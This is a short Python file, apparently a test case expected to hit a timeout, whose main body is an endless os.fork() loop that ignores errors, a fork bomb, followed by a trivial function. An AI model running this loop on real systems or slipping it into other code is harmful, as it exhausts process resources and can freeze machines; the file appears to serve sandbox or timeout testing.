# forks without end
# holds: fail timeout
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
def f(x):
    return 0
